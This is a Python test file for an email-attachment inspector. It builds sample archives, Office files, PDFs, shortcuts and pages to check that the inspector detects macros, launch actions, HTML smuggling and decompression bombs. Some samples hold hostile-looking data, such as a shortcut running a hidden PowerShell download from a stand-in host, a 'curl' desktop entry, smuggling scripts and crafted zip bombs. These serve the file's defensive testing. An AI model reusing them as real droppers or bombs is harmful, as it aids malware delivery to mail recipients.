"""Attachments are told by content and looked into, within bounds; every sample is built here."""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from noroshi.message.attachments import qr
from noroshi.message.attachments.found import READERS, Found
from noroshi.message.attachments.inspect import inspect_attachment
from noroshi.message.attachments.vba import decompress
from noroshi.message.kinds import _MAGIC
from noroshi.message.limits import (
    ARCHIVE_DEPTH,
    ATTACHMENT_LINKS,
    ATTACHMENT_TEXT_CHARS,
    EXPANDED_BYTES,
    LZMA_MEMORY_BYTES,
    MEMBER_BYTES,
    MEMBERS,
    PDF_STREAMS,
    QR_PICTURES,
    QR_PIXELS,
    READ_CHUNK_BYTES,
    SEVENZIP_HEADER_BYTES,
    Budget,
)
from tests.files import docx, ole, ole_with_macro, pdf, shortcut, xlsx, zip_of
from tests.mail import mail


def look(content, name="file", declared="application/octet-stream", budget=None):
    return inspect_attachment(name, declared, content, budget or Budget())


def names(found):
    return [member.name for member in found.members]


# --- archives ---


def test_zip_lists_members_by_content():
    found = look(zip_of({"a.txt": b"words", "invoice.pdf": b"MZ" + b"\0" * 100, "d/b.js": b"x()"}))
    assert [(m.name, m.kind, m.size) for m in found.members] == [
        ("a.txt", "text", 5),
        ("invoice.pdf", "exe", 102),
        ("d/b.js", "js", 3),
    ]
    assert (found.kind, found.unread, found.encrypted) == ("zip", "", False)


def test_zip_within_zip_and_what_is_in_it():
    found = look(zip_of({"in.zip": zip_of({"go.lnk": shortcut("/c calc https://x.test/a")})}))
    assert names(found) == ["in.zip", "in.zip/go.lnk"]
    assert found.members[1].kind == "lnk"
    assert "command" in found.traits
    assert [link.href for link in found.links] == ["https://x.test/a"]


def test_locked_zip():
    found = look(zip_of({"a.docx": b"x"}, locked=True))
    assert (found.encrypted, found.unread) == (True, "encrypted")
    assert [(m.name, m.kind, m.encrypted) for m in found.members] == [("a.docx", "docx", True)]


def test_japanese_names_of_code_page_932():
    raw = zip_of({"######.txt": b"x"}).replace(b"######", "請求書".encode("cp932"))
    assert names(look(raw)) == ["請求書.txt"]


def test_zip_without_its_directory_is_still_listed():
    raw = zip_of({"a.txt": b"hello", "b.exe": b"MZ\0" + b"\0" * 99})
    found = look(raw[: raw.rindex(b"PK\x01\x02") - 20])
    assert names(found) == ["a.txt", "b.exe"]
    assert found.unread == "broken"


def _zip_of_zips(depth, fan):
    content = b"0" * 100_000
    inner = "f.bin"
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(fan):
                archive.writestr(f"{number}-{inner}", content)
        content, inner = out.getvalue(), "z.zip"
    return content


def test_bombs_of_nested_archives_end_at_the_limits():
    budget = Budget()
    found = look(_zip_of_zips(7, 10), budget=budget)
    assert found.unread == "limit"
    assert len(found.members) <= MEMBERS
    assert max(name.count("/") for name in names(found)) < ARCHIVE_DEPTH
    assert budget.spent


def test_overlapping_bomb_ends_at_the_limits():
    kernel = zlib.compress(b"\0" * 50_000_000, 9)[2:-4]
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(kernel), 50_000_000, 5, 0) + b"a.zip"
    central = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(kernel), 50_000_000, 5, 0, 0, 0, 0, 0, 0) + b"a.zip"
        for _ in range(500)
    )  # fmt: skip
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 500, 500, len(central), len(local) + len(kernel), 0)
    budget = Budget()
    found = look(local + kernel + central + end, budget=budget)
    assert len(found.members) == 500
    assert budget.expanded >= 0


def test_more_members_than_are_listed():
    found = look(zip_of({f"{number}.txt": b"x" for number in range(MEMBERS + 5)}))
    assert (len(found.members), found.unread) == (MEMBERS, "limit")


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_packed_tar(pack):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("d/run.sh")
        info.size = 10
        archive.addfile(info, io.BytesIO(b"#!/bin/sh\n"))
    found = look(pack(out.getvalue()), "x.tar.gz")
    assert [(m.name, m.kind) for m in found.members] == [("x.tar", "tar"), ("x.tar/d/run.sh", "sh")]


@pytest.mark.parametrize("pack", [gzip.compress, bz2.compress, lzma.compress])
def test_packed_bomb_ends_at_the_limit(pack):
    block = pack(b"PK\x03\x04" + b"\0" * (EXPANDED_BYTES + 1_000_000))
    budget = Budget()
    budget.expanded = 1_000_000
    found = look(block, budget=budget)
    assert found.unread == "limit"
    assert "expanded" in budget.spent


def test_7z_lists_names_and_content():
    py7zr = pytest.importorskip("py7zr")
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": lzma.FILTER_LZMA2, "preset": 1}]) as archive:
        archive.writestr(b"words", "a.txt")
        archive.writestr(b"MZ" + b"\0" * 200, "請求書.pdf")
    found = look(out.getvalue())
    assert [(m.name, m.kind, m.size) for m in found.members] == [("a.txt", "text", 5), ("請求書.pdf", "exe", 202)]
    assert (found.kind, found.unread) == ("7z", "")


@pytest.mark.parametrize("packer", [lzma.FILTER_LZMA2, lzma.FILTER_LZMA1])
def test_7z_with_a_filter_for_programs(packer):
    py7zr = pytest.importorskip("py7zr")
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": lzma.FILTER_X86}, {"id": packer}]) as archive:
        archive.writestr(shortcut("/c calc https://x.test/a"), "a.lnk")
    found = look(out.getvalue())
    assert ([(m.name, m.kind) for m in found.members], found.unread) == ([("a.lnk", "lnk")], "")
    assert [link.href for link in found.links] == ["https://x.test/a"]


@pytest.mark.parametrize("names_too", [True, False])
def test_locked_7z(names_too):
    py7zr = pytest.importorskip("py7zr")
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password="x", header_encryption=names_too) as archive:
        archive.writestr(b"words", "a.txt")
    found = look(out.getvalue())
    assert (found.encrypted, found.unread) == (True, "encrypted")
    assert names(found) == ([] if names_too else ["a.txt"])


def test_7z_that_claims_a_billion_files_ends():
    header = b"\x01\x05" + b"\xff" + struct.pack("<Q", 1 << 60)
    found = look(b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 4 + struct.pack("<QQL", 0, len(header), 0) + header)
    assert found.unread in {"limit", "broken"}


def _rar5(name, content, locked=False):
    def block(body):
        return b"\0\0\0\0" + bytes([len(body)]) + body

    extra = b"\x02\x01\x00" if locked else b""
    file = bytes([2, 2 | (1 if locked else 0)]) + (bytes([len(extra)]) if locked else b"") + bytes([len(content)])
    file += bytes([0, len(content), 0, 0, 0, len(name)]) + name.encode() + extra
    return b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00") + block(file) + content + block(b"\x05\x00\x00")


def test_rar5():
    found = look(_rar5("run.exe", b"MZ\0" + b"\0" * 80))
    assert [(m.name, m.kind, m.size, m.encrypted) for m in found.members] == [("run.exe", "exe", 83, False)]
    found = look(_rar5("a.docx", b"x" * 9, locked=True))
    assert (found.encrypted, found.unread, names(found)) == (True, "encrypted", ["a.docx"])
    assert look(b"Rar!\x1a\x07\x01\x00\0\0\0\0\x03\x04\x00\x00").encrypted


def test_rar4():
    name, content = b"a.js", b"x()"
    head = struct.pack("<HBHH", 0, 0x74, 0x8000, 32 + len(name))
    head += struct.pack("<LLBLLBBHL", len(content), len(content), 2, 0, 0, 20, 0x30, len(name), 0)
    raw = b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0, 0x73, 0, 13) + b"\0" * 6 + head + name + content
    raw += struct.pack("<HBHH", 0, 0x7B, 0, 7)
    found = look(raw)
    assert [(m.name, m.kind) for m in found.members] == [("a.js", "js")]


def test_a_cut_rar_is_said_to_be_broken():
    whole = _rar5("run.exe", b"MZ\0" + b"\0" * 80)
    assert look(whole).unread == ""
    assert look(whole[:-40]).unread == "broken"
    assert look(b"Rar!\x1a\x07\x01\x00").unread == "broken"
    assert look(b"Rar!\x1a\x07\x00" + b"junk").unread == "broken"


@pytest.mark.parametrize("joliet", [None, 3])
def test_iso(joliet):
    pycdlib = pytest.importorskip("pycdlib")
    iso = pycdlib.PyCdlib()
    iso.new(joliet=joliet)
    path = {"joliet_path": "/請求書.lnk"} if joliet else {}
    raw = shortcut("/c calc")
    iso.add_fp(io.BytesIO(raw), len(raw), "/A.LNK;1", **path)
    iso.add_directory("/D", joliet_path="/d" if joliet else None)
    iso.add_fp(io.BytesIO(b"MZ\0"), 3, "/D/B.DLL;1", **({"joliet_path": "/d/b.dll"} if joliet else {}))
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    found = look(out.getvalue())
    assert found.kind == "iso"
    assert set(names(found)) == ({"請求書.lnk", "d/b.dll"} if joliet else {"A.LNK", "D/B.DLL"})
    assert "command" in found.traits


def test_disk_images_that_nothing_here_opens_say_so():
    assert (look(b"vhdxfile" + b"\0" * 100).kind, look(b"vhdxfile" + b"\0" * 100).unread) == ("vhdx", "no-reader")


# --- mail that came as a file ---


def test_a_mail_in_a_file():
    inner = mail(
        from_="山田 太郎 <taro@evil.test>",
        subject="送金",
        body="https://x.test/a",
        attachments=[("a.lnk", shortcut("/c calc"))],
    )
    found = look(inner, "forwarded.eml")
    assert (found.kind, found.text) == (
        "message",
        "From: 山田 太郎 <taro@evil.test>\nSubject: 送金\n\nhttps://x.test/a\n/c calc",
    )
    assert ([link.href for link in found.links], names(found)) == (["https://x.test/a"], ["a.lnk"])
    assert "command" in found.traits
    assert names(look(zip_of({"m.eml": inner}))) == ["m.eml", "m.eml/a.lnk"]


def test_mail_within_mail_in_a_file():
    raw = mail(subject="deepest", attachments=[("run.exe", b"MZ" + b"\0" * 80)])
    for _ in range(2):
        raw = mail(subject="outer", attachments=[("", raw, "message/rfc822")])
    assert names(look(raw, "m.eml")) == ["outer.eml", "outer.eml/deepest.eml", "outer.eml/deepest.eml/run.exe"]


def test_mail_within_mail_ends_at_the_limit():
    raw = b"From: a@a.test\nSubject: x\n\nend"
    for _ in range(ARCHIVE_DEPTH + 3):
        raw = mail(subject="x", attachments=[("m.eml", raw, "application/octet-stream")])
    budget = Budget()
    assert (look(raw, budget=budget).unread, list(budget.spent)) == ("limit", ["depth"])


# --- documents ---


def test_docx():
    found = look(docx("Hello there"))
    assert (found.kind, found.traits, found.text, found.unread) == ("docx", (), "Hello there", "")


def test_docx_with_remote_template_and_macro():
    found = look(docx("x", remote_template="https://x.test/t.dotm", macro=True))
    assert found.kind == "docm"
    assert {"remote-template", "macro"} <= set(found.traits)
    assert [link.href for link in found.links] == ["https://x.test/t.dotm"]


def test_xlsx_and_dde():
    assert look(xlsx([["a", "b"]])).kind == "xlsx"
    parts = {
        "[Content_Types].xml": b"<x/>",
        "xl/workbook.xml": b"<x/>",
        "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>",
    }
    assert "dde" in look(zip_of(parts)).traits


def test_embedded_objects_and_macro_sheets():
    parts = {
        "[Content_Types].xml": b"<x/>",
        "word/document.xml": b"<x/>",
        "word/embeddings/oleObject1.bin": b"MZ\0" + b"\0" * 99,
    }
    assert {"embedded-object", "embedded-file"} <= set(look(zip_of(parts)).traits)
    parts = {
        "[Content_Types].xml": b"<x/>",
        "xl/workbook.xml": b"<x/>",
        "xl/macrosheets/sheet1.xml": b"<x/>",
        "customUI/customUI.xml": b"<x/>",
    }
    assert {"macro", "excel4-macro", "custom-ui"} <= set(look(zip_of(parts)).traits)


def test_odt_with_macro_and_lock():
    parts = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"<text:p>Hi</text:p>",
        "Basic/Standard/M.xml": b"x",
    }
    found = look(zip_of(parts))
    assert (found.kind, found.traits, found.text) == ("odt", ("macro",), "Hi")
    parts["META-INF/manifest.xml"] = b"<manifest:encryption-data/>"
    assert look(zip_of(parts)).encrypted


def test_ole_with_macro():
    found = look(ole_with_macro())
    assert (found.kind, found.traits) == ("doc", ("macro",))


def test_outlook_message_with_its_attachments():
    raw = ole(
        {
            "__properties_version1.0": b"x",
            "__substg1.0_0037001F": "送金".encode("utf-16-le"),
            "__substg1.0_10130102": b"<a href='https://x.test/a'>a</a>",
            "__attach_version1.0_#00000000/__substg1.0_3704001F": "LONG~1.LNK".encode("utf-16-le"),
            "__attach_version1.0_#00000000/__substg1.0_3707001F": "long name.lnk".encode("utf-16-le"),
            "__attach_version1.0_#00000000/__substg1.0_37010102": shortcut("/c calc https://x.test/b"),
        }
    )
    found = look(raw, "m.msg")
    assert (found.kind, [(m.name, m.kind) for m in found.members]) == ("msg", [("long name.lnk", "lnk")])
    assert "command" in found.traits
    assert {link.href for link in found.links} == {"https://x.test/a", "https://x.test/b"}
    assert "送金" in found.text


def test_source_of_macros_is_decompressed():
    literal = b"Attribute VB_Name"
    chunk = b"".join(b"\0" + literal[at : at + 8] for at in range(0, len(literal), 8))
    packed = b"\x01" + struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    assert decompress(packed, Found(Budget())) == literal


def test_copies_in_compressed_source():
    # "abcabcabcabc": three letters, then a copy of nine from three back (four bits of offset, twelve of length)
    token = struct.pack("<H", (3 - 1) << 12 | (9 - 3))
    chunk = b"\x08abc" + token
    packed = b"\x01" + struct.pack("<H", 0xB000 | (len(chunk) - 1)) + chunk
    assert decompress(packed, Found(Budget())) == b"abcabcabcabc"


def test_rtf():
    raw = (
        rb"{\rtf1{\*\template http://x.test/t.dotm}{\object\objupdate{\*\objdata 0105}}"
        rb'{\field{\*\fldinst HYPERLINK "http://y.test/"}}}'
    )
    found = look(raw)
    assert found.kind == "rtf"
    assert {"remote-template", "embedded-object", "object-update"} <= set(found.traits)
    assert {"http://x.test/t.dotm", "http://y.test/"} == {link.href for link in found.links}


def test_pdf_text_and_link():
    found = look(pdf("Pay now", link="https://x.test/pay"))
    assert (found.kind, found.text, found.unread) == ("pdf", "Pay now", "")
    assert [link.href for link in found.links] == ["https://x.test/pay"]
    assert found.traits == ()


def test_pdf_that_does_more():
    raw = pdf("x").replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (x) >> /Names << /EmbeddedFiles 9 0 R >>",
    )
    raw += b"<< /S /Launch /F (cmd.exe) >> << /S /SubmitForm >>"
    found = look(raw)
    assert {"open-action", "javascript", "launch", "submit-form", "embedded-file"} <= set(found.traits)


def test_pdf_objects_in_packed_streams():
    packed = zlib.compress(b"1 0 << /A << /S /URI /URI (https://x.test/\\(a\\)) >> >> << /S /Launch >>")
    raw = pdf("x") + b"9 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream endobj"
    found = look(raw)
    assert "launch" in found.traits
    assert [link.href for link in found.links] == ["https://x.test/(a)"]


def test_locked_pdf():
    raw = pdf("x").replace(
        b"trailer << ",
        b"trailer << /Encrypt << /Filter /Standard /V 1 /R 2 /O (12345678901234567890123456789012) /U (12345678901234567890123456789012) /P -4 >> /ID [(a)(a)] ",
    )
    found = look(raw)
    assert (found.encrypted, found.unread) == (True, "encrypted")


# --- pages, shortcuts, invitations ---


def test_html_page_with_form():
    found = look(
        b"<html><body>Log in<form action='https://x.test/p'><input type=password></form>", "a.html", "text/html"
    )
    assert found.kind == "html"
    assert {"form", "password-field"} <= set(found.traits)
    assert "Log in" in found.text
    assert [link.href for link in found.links] == ["https://x.test/p"]


@pytest.mark.parametrize(
    "script",
    [
        "var b = atob('%s'); var u = URL.createObjectURL(new Blob([b])); a.download='x.iso'",
        "navigator.msSaveOrOpenBlob(new Blob([Uint8Array.from([1])]), 'x')",
        "document.write(unescape('%s'))",
    ],
)
def test_smuggling(script):
    data = base64.b64encode(b"MZ" * 4000).decode()
    found = look(f"<html><script>{script.replace('%s', data)}</script>".encode(), "a.html", "text/html")
    assert {"script", "smuggling"} <= set(found.traits)


def test_a_plain_page_has_no_traits():
    assert look(b"<html><p>Report</p><a href=https://x.test>x</a></html>", "a.html").traits == ()


def test_svg_with_script():
    found = look(
        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>location='https://x.test/a'</script></svg>"
    )
    assert found.kind == "svg"
    assert {"script", "redirect"} <= set(found.traits)
    assert "https://x.test/a" in [link.href for link in found.links]


def test_windows_shortcut():
    found = look(shortcut("/c powershell -w hidden iwr https://x.test/p"))
    assert (found.kind, found.traits) == ("lnk", ("command",))
    assert found.text == "/c powershell -w hidden iwr https://x.test/p"
    assert [link.href for link in found.links] == ["https://x.test/p"]


@pytest.mark.parametrize(
    ("content", "kind", "href"),
    [
        (b"[InternetShortcut]\r\nURL=https://x.test/\r\n", "url", "https://x.test/"),
        (b"[InternetShortcut]\r\nURL=file://x.test@80/s/a.exe\r\n", "url", "file://x.test@80/s/a.exe"),
        (b"<?xml version='1.0'?><!DOCTYPE plist><plist><dict><key>URL</key><string>https://x.test/?a&amp;b</string></dict></plist>", "webloc", "https://x.test/?a&b"),
    ],
)  # fmt: skip
def test_internet_shortcuts(content, kind, href):
    found = look(content)
    assert (found.kind, [link.href for link in found.links]) == (kind, [href])


def test_desktop_entry():
    found = look(b"[Desktop Entry]\nExec=sh -c 'curl x'\n")
    assert (found.kind, found.traits, found.text) == ("desktop", ("command",), "sh -c 'curl x'")


def test_invitation():
    raw = (
        'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:取締役会\\, 臨時\r\nORGANIZER;CN="山田 太郎":mailto:ceo@x.test\r\n'
        "LOCATION:https://zo\r\n om.x.test/j/1\r\nDESCRIPTION:Join\\nwww.y.test\r\nURL:https://z.test/\r\nEND:VEVENT\r\nEND:VCALENDAR"
    )
    found = look(raw.encode(), "invite.ics", "text/calendar")
    assert found.kind == "calendar"
    assert found.text == "取締役会, 臨時\n山田 太郎 <ceo@x.test>\nhttps://zoom.x.test/j/1\nJoin\nwww.y.test"
    assert [(link.href, link.where) for link in found.links] == [
        ("https://zoom.x.test/j/1", "calendar"),
        ("www.y.test", "calendar"),
        ("https://z.test/", "calendar"),
    ]


def test_visiting_card():
    found = look(b"BEGIN:VCARD\nFN:Ann Lee\nURL:https://x.test/\nEND:VCARD", "a.vcf")
    assert (found.kind, found.text) == ("vcard", "Ann Lee")
    assert [link.href for link in found.links] == ["https://x.test/"]


# --- pictures ---


def _qr_png(words, size=300):
    zxingcpp = pytest.importorskip("zxingcpp")
    image = pytest.importorskip("PIL.Image")
    code = zxingcpp.create_barcode(words, zxingcpp.BarcodeFormat.QRCode)
    picture = image.fromarray(code.to_image()).convert("L").resize((size - 40, size - 40), 0)
    ground = image.new("L", (size, size), 255)
    ground.paste(picture, (20, 20))
    out = io.BytesIO()
    ground.save(out, "PNG")
    return out.getvalue()


def test_qr_code():
    found = look(_qr_png("https://x.test/qr"))
    assert (found.kind, found.traits) == ("png", ("qr",))
    assert [(link.href, link.where) for link in found.links] == [("https://x.test/qr", "qr")]


def test_qr_codes_are_not_looked_for_where_the_budget_says_so():
    assert look(_qr_png("https://x.test/qr"), budget=Budget(qr=False)).links == ()


def test_qr_codes_are_looked_for_in_so_many_pictures():
    raw, budget = _qr_png("https://x.test/qr"), Budget()
    found = [look(raw, budget=budget) for _ in range(QR_PICTURES + 1)]
    assert [bool(each.links) for each in found] == [True] * QR_PICTURES + [False]
    assert found[-1].unread == "limit"


def test_without_the_extra_pictures_are_said_to_be_unread(monkeypatch):
    raw = _qr_png("https://x.test/qr")
    monkeypatch.setattr(qr, "qr_available", lambda: False)
    assert (look(raw).links, look(raw).unread) == ((), "no-reader")


def test_qr_code_in_a_pdf():
    image = pytest.importorskip("PIL.Image")
    out = io.BytesIO()
    image.open(io.BytesIO(_qr_png("https://x.test/qr"))).convert("RGB").save(out, "PDF")
    found = look(out.getvalue())
    assert (found.kind, found.traits) == ("pdf", ("qr",))
    assert [(link.href, link.where) for link in found.links] == [("https://x.test/qr", "qr")]


@pytest.mark.parametrize(
    ("width", "height", "worth"),
    [(300, 300, True), (20, 20, False), (600, 100, False), (9000, 9000, False), (120, 300, True)],
)
def test_only_pictures_that_could_hold_a_code_are_worth_a_look(width, height, worth):
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">LL", width, height)
    assert qr.worth_a_look(png) is worth


def test_dimensions_of_pictures():
    assert qr.dimensions(b"GIF89a" + struct.pack("<HH", 3, 4)) == (3, 4)
    assert qr.dimensions(b"\xff\xd8\xff\xe0\0\x04xx\xff\xc0\0\x0b\x08" + struct.pack(">HH", 4, 3)) == (3, 4)
    assert qr.dimensions(b"\xff\xd8\xff") is None


# --- bounds and kinds ---


def test_text_and_links_are_bounded():
    page = (
        "<p>"
        + "word " * ATTACHMENT_TEXT_CHARS
        + "".join(f"<a href=http://{n}.test>x</a>" for n in range(ATTACHMENT_LINKS + 9))
    )
    found = look(b"<html>" + page.encode(), "a.html")
    assert len(found.text) <= ATTACHMENT_TEXT_CHARS
    assert len(found.links) == ATTACHMENT_LINKS


def test_no_time_left():
    ticks = iter(range(0, 10_000, 100))
    budget = Budget(clock=lambda: float(next(ticks)))
    assert look(zip_of({"a": b"x"}), budget=budget).unread == "limit"


@pytest.mark.parametrize(
    ("content", "name", "kind"),
    [
        (b"", "a.pdf", "empty"),
        (b"MZ" + b"\0" * 70, "a.pdf", "exe"),
        (b"MZ is how this text begins and goes on for a while, with no zero bytes in it at all", "a.txt", "text"),
        (b"\x7fELF", "", "elf"),
        (b"\xcf\xfa\xed\xfe", "", "macho"),
        (b"\xca\xfe\xba\xbe\0\0\0\x41", "", "java-class"),
        (b"junk\n%PDF-1.4", "", "pdf"),
        (b"x()", "a.js", "js"),
        (b"x()", "a.pdf.vbs", "vbs"),
        (b"a,b\n1,2", "a.csv", "csv"),
        (b"From: a@b.test\r\nSubject: x\r\n\r\nhi", "a", "message"),
        (b"<hta:application id=x><html>", "a.hta", "hta"),
        ("<html>".encode("utf-16"), "a.txt", "html"),
        ("こんにちは".encode("iso2022_jp"), "a.txt", "text"),
        (b"\0\1\2\3" * 9, "a.doc", "unknown"),
        (b"Windows Registry Editor Version 5.00", "a", "reg"),
        (b"#!/usr/bin/env python3\n", "a", "py"),
        (b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d", "", "onenote"),
        (zip_of({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), "", "jar"),
        (zip_of({"AndroidManifest.xml": b"x"}), "", "apk"),
        (b"koly".rjust(4) .join([b"\0" * 600, b"\0" * 508]), "", "dmg"),
    ],
)  # fmt: skip
def test_kinds(content, name, kind):
    assert look(content, name).kind == kind


_HEADS = sorted({b"\0" * offset + magic for magic, offset, _ in _MAGIC if offset < 1000} | {
    b"<html>", b"<svg ", b"BEGIN:VCALENDAR\n", b"[InternetShortcut]\n", b"PK\x03\x04" + b"\0" * 22 + b"\x13\0\0\0[Content_Types].xml",
    b"Rar!\x1a\x07\x01\x00", b"\0" * 0x8001 + b"CD001", b"%PDF-1.4 /ObjStm stream\n", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0\0\0\1\0",
})  # fmt: skip


@given(st.sampled_from(_HEADS), st.binary(max_size=400), st.sampled_from(["", "a.html", "a.zip", "a.js"]))
@settings(max_examples=600, deadline=None)
def test_no_bytes_raise(head, rest, name):
    found = look(head + rest, name)
    assert found.unread in {"", "encrypted", "no-reader", "limit", "broken"}


@given(st.data())
@settings(max_examples=300, deadline=None)
def test_damaged_files_do_not_raise(data):
    good = data.draw(st.sampled_from([zip_of({"a.txt": b"x", "b.zip": zip_of({"c": b"y"})}), docx("x", macro=True), ole_with_macro(), shortcut("/c x"), pdf("x", link="http://x.test"), _rar5("a", b"x" * 9)]))  # fmt: skip
    raw = bytearray(good)
    for _ in range(data.draw(st.integers(1, 8))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    look(bytes(raw[: data.draw(st.integers(1, len(raw)))]))


def test_every_reader_exists():
    from importlib import import_module

    for place in set(READERS.values()):
        module, _, function = place.partition(":")
        assert callable(getattr(import_module(f"noroshi.message.attachments.{module}"), function))


# --- each limit ---


def test_a_long_member_is_read_to_its_limit():
    page = b"<html>" + b" " * MEMBER_BYTES + b"<a href='https://x.test/end'>x</a>"
    found = look(zip_of({"a.html": page}))
    assert [(m.name, m.kind, m.size) for m in found.members] == [("a.html", "html", len(page))]
    assert found.links == ()


def test_the_budget_is_asked_for_every_chunk():
    asked = []

    class Counting(Budget):
        def expand(self, size):
            asked.append(size)
            return super().expand(size)

    look(gzip.compress(b"<html>" + b" " * 3 * READ_CHUNK_BYTES), "a.html.gz", budget=Counting())
    assert max(asked) <= READ_CHUNK_BYTES
    assert len(asked) > 3


def test_xz_that_asks_for_too_much_memory():
    size = 2 * LZMA_MEMORY_BYTES
    packed = lzma.compress(b"words", filters=[{"id": lzma.FILTER_LZMA2, "dict_size": size}])
    assert look(packed, "a.xz").unread == "broken"
    assert look(lzma.compress(b"words"), "a.xz").unread == ""


def test_7z_with_a_long_header():
    size = SEVENZIP_HEADER_BYTES + 1
    raw = b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 4 + struct.pack("<QQL", 0, size, 0) + b"\x01" * size
    assert look(raw).unread == "broken"


def test_7z_whose_member_begins_beyond_what_is_expanded():
    py7zr = pytest.importorskip("py7zr")
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", filters=[{"id": lzma.FILTER_LZMA2, "preset": 0}]) as archive:
        archive.writestr(bytes(EXPANDED_BYTES + 1), "zeros")
        archive.writestr(shortcut("/c calc"), "a.lnk")
    found = look(out.getvalue())
    assert [(m.name, m.kind) for m in found.members] == [("zeros", "unknown"), ("a.lnk", "lnk")]
    assert (found.traits, found.unread) == ((), "limit")


def test_a_pdf_of_many_packed_streams():
    stream = b"1 0 obj << /Type /ObjStm >> stream\n" + zlib.compress(b"x") + b"\nendstream endobj\n"
    assert look(b"%PDF-1.5\n" + stream * PDF_STREAMS).unread != "limit"
    assert look(b"%PDF-1.5\n" + stream * (PDF_STREAMS + 1)).unread == "limit"


def test_pictures_of_too_many_pixels_are_left():
    side = int(QR_PIXELS**0.5)
    assert qr.could_hold_a_code(side, side)
    assert not qr.could_hold_a_code(side + 1, side + 1)
